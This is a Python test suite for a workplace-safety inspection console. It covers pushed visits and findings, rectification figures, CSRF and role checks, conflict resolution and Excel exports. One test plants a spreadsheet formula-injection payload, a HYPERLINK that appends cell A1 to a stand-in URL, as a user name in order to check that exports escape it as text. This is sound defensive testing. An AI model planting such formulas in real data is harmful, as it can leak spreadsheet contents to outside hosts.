"""The console's figures follow what the laptops push, over HTTP, on SQLite and PostgreSQL.

A visit pushed with a finding is counted at once (家次, 家, 发现隐患); the enterprise's report of a
fix (a finding event pushed on its own) makes it 已报整改; a re-inspection that verifies it closes
it (销号) and the 整改率 follows. A repeated push changes no figure.
"""

from __future__ import annotations

import io
import re
import subprocess
import sys
import uuid
from datetime import UTC, date, datetime, timedelta
from typing import Any

import httpx
import openpyxl

from inspector_app.central.db import tables as t
from inspector_app.domain.visit import content_hash
from tests.support.harness import FORMS, PASSWORD, Office, ThreadServer
from tests.support.session import console_login, csrf_of


def _token(url: str, username: str) -> str:
    r = httpx.post(
        f"{url}/api/v1/auth/login",
        json={"username": username, "password": PASSWORD, "device_id": str(uuid.uuid4())},
    )
    assert r.status_code == 200, r.text
    return str(r.json()["token"])


def _document(office: Office, badge: str, code: str, **parts: Any) -> dict[str, Any]:
    now = datetime.now(UTC).astimezone().replace(microsecond=0)
    doc: dict[str, Any] = {
        "schema": 1,
        "id": str(uuid.uuid4()),
        "kind": "inspection",
        "enterprise": {"credit_code": code, "name": "测试企业"},
        "form": {"code": "mini-check", "version": "1"},
        "inspectors": [badge],
        "place": "生产车间",
        "started_at": (now - timedelta(minutes=30)).isoformat(),
        "completed_at": now.isoformat(),
        # A complete record of the mini form, with the outcome its rules give (the server re-judges it).
        "outcome": "不予复工",
        "answers": {"plan": "N", "staff": 12, "exits": "Y"},
        "findings": [],
        "recheck": [],
        "photos": [],
        "signatures": [],
        "requests": [],
        "manifest": [],
    } | parts
    doc["content_hash"] = content_hash(doc)
    return doc


def _finding(today: date) -> dict[str, Any]:
    return {
        "id": str(uuid.uuid4()),
        "item_key": "plan",
        "option": "",
        "title": "未建立全员安全生产责任制",
        "severity": "重大",
        "description": "现场未见责任制文件",
        "order": "限期整改",
        "deadline": (today + timedelta(days=15)).isoformat(),
        "found_on": today.isoformat(),
        "legal_basis": "《中华人民共和国安全生产法》第四条",
        "photos": [],
    }


def _push(url: str, token: str, **batch: Any) -> list[str]:
    r = httpx.post(
        f"{url}/api/v1/push",
        json={"client_time": datetime.now(UTC).isoformat()} | batch,
        headers={"Authorization": f"Bearer {token}"},
    )
    assert r.status_code == 200, r.text
    return [x["status"] for x in r.json()["results"]]


def _figures(client: httpx.Client, team: str) -> dict[str, str]:
    html = client.get("/console/overview", params={"period": "today", "team": team}).text
    return dict(re.findall(r'data-figure="(\w+)"><span class="label">[^<]*</span><b>([^<]*)</b>', html))


def test_figures_follow_pushed_visits_and_follow_ups(server: ThreadServer, office: Office) -> None:
    today = datetime.now(UTC).astimezone().date()
    token = _token(server.url, office.inspector)
    badge = office.badges[office.inspector]
    console = console_login(server.url, office.admin)
    assert _figures(console, office.team)["visits"] == "0"

    finding = _finding(today)
    visit = _document(office, badge, office.codes[0], findings=[finding])
    other = _document(
        office, badge, office.codes[1], outcome="通过", answers={"plan": "Y", "staff": 8, "exits": "Y"}
    )
    assert _push(
        server.url,
        token,
        visits=[{"id": d["id"], "content_hash": d["content_hash"], "document": d} for d in (visit, other)],
    ) == ["accepted", "accepted"]
    shown = _figures(console, office.team)
    assert (shown["visits"], shown["homes"], shown["raised"], shown["rate"]) == ("2", "2", "1", "0.0%")
    findings_page = console.get("/console/findings", params={"team": office.team}).text
    assert "未建立全员安全生产责任制" in findings_page and "待整改" in findings_page

    # A repeat of the push is a no-op for the figures too.
    _push(
        server.url,
        token,
        visits=[{"id": visit["id"], "content_hash": visit["content_hash"], "document": visit}],
    )
    assert _figures(console, office.team)["visits"] == "2"

    # The enterprise reports the fix (a follow-up pushed alone): 已报整改, not yet 销号.
    event = {
        "id": str(uuid.uuid4()),
        "finding_id": finding["id"],
        "kind": "reported_rectified",
        "visit_id": visit["id"],  # a follow-up belongs to the visit that found the finding
        "at": datetime.now(UTC).isoformat(),
        "note": "已制定责任制",
    }
    assert _push(server.url, token, finding_events=[event]) == ["accepted"]
    page = console.get("/console/findings", params={"state": "rectified", "team": office.team}).text
    assert "已报整改" in page and "未建立全员安全生产责任制" in page

    # The re-inspection verifies it: closed, and the 整改率 is 100%.
    recheck = _document(
        office,
        badge,
        office.codes[0],
        kind="recheck",
        answers={"plan": "Y", "staff": 12, "exits": "Y"},
        outcome="通过",
        recheck=[
            {"finding_id": finding["id"], "result": "已整改", "note": "", "new_deadline": None, "photo": None}
        ],
    )
    assert _push(
        server.url,
        token,
        visits=[{"id": recheck["id"], "content_hash": recheck["content_hash"], "document": recheck}],
    ) == ["accepted"]
    shown = _figures(console, office.team)
    assert (shown["visits"], shown["rate"], shown["overdue"]) == ("2", "100.0%", "0")
    enterprise = console.get(f"/console/enterprises/{office.codes[0]}").text
    assert "已销号" in enterprise

    # The day's report as a workbook carries the page's figures.
    r = console.get("/console/overview.xlsx", params={"period": "today", "team": office.team})
    assert r.status_code == 200 and r.headers["content-type"].startswith("application/vnd.openxmlformats")
    sheet = openpyxl.load_workbook(io.BytesIO(r.content))["总览"]
    rows = {row[0]: row[1] for row in sheet.iter_rows(values_only=True) if row and row[0]}
    assert str(sheet["A1"].value).startswith("检查工作日报")
    assert (rows["检查家次"], rows["发现隐患（条）"], rows["整改率"]) == (2, 1, "100.0%")


def test_pages_need_a_session_and_forms_need_their_token(server: ThreadServer, office: Office) -> None:
    anonymous = httpx.Client(base_url=server.url)
    r = anonymous.get("/console/findings")
    assert r.status_code == 303 and "/console/login" in r.headers["location"]
    console = console_login(server.url, office.admin)
    r = console.post("/console/sub-groups", data={"name": "惠企政策", "csrf": "forged"})
    assert r.status_code == 400 and "表单已过期" in r.text
    cookie = console.cookies.get("console_session")
    assert cookie
    # An inspector has no console role; a revoked browser session is over.
    inspector = httpx.Client(base_url=server.url)
    csrf = re.search(r'name="csrf" value="([^"]+)"', inspector.get("/console/login").text)
    assert csrf
    r = inspector.post(
        "/console/login", data={"username": office.inspector, "password": PASSWORD, "csrf": csrf[1]}
    )
    assert r.status_code == 403 and "没有办公室控制台的使用权限" in r.text
    page = console.get("/console/overview").text
    logout = re.search(r'/console/logout"[^>]*><input type="hidden" name="csrf" value="([^"]+)"', page)
    assert logout
    console.post("/console/logout", data={"csrf": logout[1]})
    stale = httpx.Client(base_url=server.url, cookies={"console_session": cookie})
    assert stale.get("/console/overview").status_code == 303


def test_a_conflicting_field_edit_is_decided_in_the_console(server: ThreadServer, office: Office) -> None:
    token = _token(server.url, office.inspector)
    edit = {
        "id": f"dev/{uuid.uuid4().hex[:12]}",
        "credit_code": office.codes[2],
        "field": "phone",
        "old_value": "0755-00000000",  # not what the office holds: someone changed it since
        "new_value": "13912345678",
        "base_version": 1,
        "changed_at": datetime.now(UTC).isoformat(),
        "changed_by": office.inspector,
    }
    assert _push(server.url, token, edits=[edit]) == ["conflict"]
    console = console_login(server.url, office.admin)
    page = console.get("/console/conflicts").text
    assert "13912345678" in page and "电话" in page
    csrf = re.search(r'name="csrf" value="([^"]+)"', page)
    assert csrf
    r = console.post(f"/console/conflicts/{edit['id']}", data={"keep": "field", "csrf": csrf[1]})
    assert r.status_code == 200 and "13912345678" not in r.text  # decided: no longer listed
    assert "13912345678" in console.get(f"/console/enterprises/{office.codes[2]}").text
    assert "裁定修改冲突" in console.get("/console/audit").text


def test_backfill_rebuilds_the_read_model_from_the_stored_documents(
    server: ThreadServer, office: Office
) -> None:
    """Visits stored before the console existed are projected by ``inspector-central console-backfill``."""
    today = datetime.now(UTC).astimezone().date()
    token = _token(server.url, office.inspector)
    badge = office.badges[office.inspector]
    visit = _document(office, badge, office.codes[1], findings=[_finding(today)])
    _push(
        server.url,
        token,
        visits=[{"id": visit["id"], "content_hash": visit["content_hash"], "document": visit}],
    )
    console = console_login(server.url, office.admin)
    before = _figures(console, office.team)
    with office.db.write() as conn:  # as on a server upgraded to the console: documents, no read model
        for table in (
            t.console_rollup,
            t.console_inspector_days,
            t.console_findings,
            t.console_visit_inspectors,
            t.console_visits,
            t.console_state,
        ):
            conn.execute(table.delete())
    assert _figures(console, office.team)["visits"] == "0"

    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "inspector_app.central",
            "--database-url",
            office.backend.url,
            "--data-dir",
            str(office.backend.data_dir),
            "console-backfill",
        ],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )

    assert done.returncode == 0, done.stderr
    assert "已为控制台补建" in done.stdout
    assert _figures(console, office.team) == before


def test_an_admin_makes_a_viewer_who_reads_but_cannot_change(server: ThreadServer, office: Office) -> None:
    console = console_login(server.url, office.admin)
    page = console.get("/console/users").text
    name = f"viewer{uuid.uuid4().hex[:6]}"
    form = {
        "username": name,
        "password": "viewer-pass-1",
        "role": "viewer",
        "display_name": "指挥部 罗军",
        "badge_number": f"V{uuid.uuid4().hex[:10]}",
    }
    # A team leader needs a team; a viewer (no laptop) has none, and no badge either.
    r = console.post("/console/users", data=form | {"role": "leader", "csrf": csrf_of(page)})
    assert r.status_code == 422 and "组长须选择一个检查组" in r.text
    r = console.post("/console/users", data=form | {"csrf": csrf_of(page)})
    assert r.status_code == 200 and name in r.text

    viewer = httpx.Client(base_url=server.url, follow_redirects=True)
    login = viewer.get("/console/login").text
    r = viewer.post(
        "/console/login", data={"username": name, "password": "viewer-pass-1", "csrf": csrf_of(login)}
    )
    assert r.status_code == 200 and "只读" in r.text
    page = viewer.get("/console/requests").text
    assert "添加" not in page  # no forms for a viewer
    r = viewer.post("/console/sub-groups", data={"name": "综合组", "csrf": csrf_of(page)})
    assert r.status_code == 403 and "无权" in r.text
    assert "新增用户" in console.get("/console/audit").text


def test_a_broken_form_is_refused_with_file_line_and_item_then_a_good_one_is_published(
    server: ThreadServer, office: Office
) -> None:
    console = console_login(server.url, office.admin)
    version = f"9.{uuid.uuid4().int % 10_000}"
    good = (FORMS / "mini.yaml").read_text(encoding="utf-8").replace('version: "1"', f'version: "{version}"')
    broken = good.replace("type: integer", "type: intgeer", 1)
    page = console.get("/console/forms").text
    r = console.post(
        "/console/forms", data={"csrf": csrf_of(page)},
        files={"file": ("broken.yaml", broken.encode("utf-8"))},
    )
    assert r.status_code == 422
    errors = re.search(r'<table[^>]*id="form-errors".*?</table>', r.text, re.S)
    assert errors and re.search(r"broken\.yaml:\d+", errors[0]) and "staff" in errors[0]

    r = console.post(
        "/console/forms", data={"csrf": csrf_of(page)}, files={"file": ("mini.yaml", good.encode("utf-8"))}
    )
    assert r.status_code == 200 and f"mini-check {version}：已发布" in r.text
    assert f"mini-check@{version}" in console.get("/console/audit", params={"group": "admin"}).text


def test_a_visit_the_server_refuses_is_shown_to_reviewers_until_it_is_resubmitted(
    server: ThreadServer, office: Office
) -> None:
    token = _token(server.url, office.inspector)
    badge = office.badges[office.inspector]
    incomplete = _document(office, badge, office.codes[2], answers={"plan": "Y"}, outcome="通过")
    batch = [{"id": incomplete["id"], "content_hash": incomplete["content_hash"], "document": incomplete}]
    assert _push(server.url, token, visits=batch) == ["rejected"]
    assert _push(server.url, token, visits=batch) == ["rejected"]  # the laptop retries: one row

    console = console_login(server.url, office.admin)
    table = re.search(r'<table[^>]*id="refused".*?</table>', console.get("/console/conflicts").text, re.S)
    assert table
    row = next(r for r in re.findall(r"<tr>.*?</tr>", table[0], re.S) if office.inspector in r)
    assert "必填检查项 staff 未填写" in row and "mini-check@1" in row and "未接受" in row
    assert re.search(r'class="n">2<', row)  # two attempts

    # Fixed on the laptop and pushed again under the same id: accepted, and marked so.
    fixed = _document(
        office,
        badge,
        office.codes[2],
        id=incomplete["id"],
        answers={"plan": "Y", "staff": 3, "exits": "Y"},
        outcome="通过",
    )
    assert _push(
        server.url,
        token,
        visits=[{"id": fixed["id"], "content_hash": fixed["content_hash"], "document": fixed}],
    ) == ["accepted"]
    table = re.search(r'<table[^>]*id="refused".*?</table>', console.get("/console/conflicts").text, re.S)
    assert table and f'/console/visits/{fixed["id"]}">已补交' in table[0]


def test_a_finding_corrected_on_the_spot_is_closed_at_once_and_exports_stay_text(
    server: ThreadServer, office: Office
) -> None:
    """当场整改完毕 counts among the closed (domain.figures) and is never overdue; and a name that
    looks like a formula is written into the workbook as text (register.sheets.sheet_value)."""
    today = datetime.now(UTC).astimezone().date()
    with office.db.write() as conn:  # a co-inspector whose name someone filled in as a formula
        conn.execute(
            t.users.update()
            .where(t.users.c.username == office.inspector2)
            .values(display_name='=HYPERLINK("http://example.invalid/?"&A1,"详情")')
        )
    token = _token(server.url, office.inspector)
    badges = [office.badges[office.inspector], office.badges[office.inspector2]]
    fixed = _finding(today) | {"order": "当场整改完毕", "deadline": (today - timedelta(days=1)).isoformat()}
    visit = _document(office, badges[0], office.codes[0], findings=[fixed], inspectors=badges)
    assert _push(
        server.url,
        token,
        visits=[{"id": visit["id"], "content_hash": visit["content_hash"], "document": visit}],
    ) == ["accepted"]
    console = console_login(server.url, office.admin)
    shown = _figures(console, office.team)
    assert (shown["raised"], shown["rate"], shown["major_rate"], shown["overdue"]) == (
        "1",
        "100.0%",
        "100.0%",
        "0",
    )
    open_page = console.get("/console/findings", params={"team": office.team}).text
    assert "未建立全员安全生产责任制" not in open_page
    closed = console.get("/console/findings", params={"team": office.team, "state": "closed"}).text
    assert "未建立全员安全生产责任制" in closed

    r = console.get("/console/overview.xlsx", params={"period": "today", "team": office.team})
    people = openpyxl.load_workbook(io.BytesIO(r.content))["检查人员"]
    names = [row[1] for row in people.iter_rows(min_row=2, values_only=True)]
    assert '\'=HYPERLINK("http://example.invalid/?"&A1,"详情")' in names
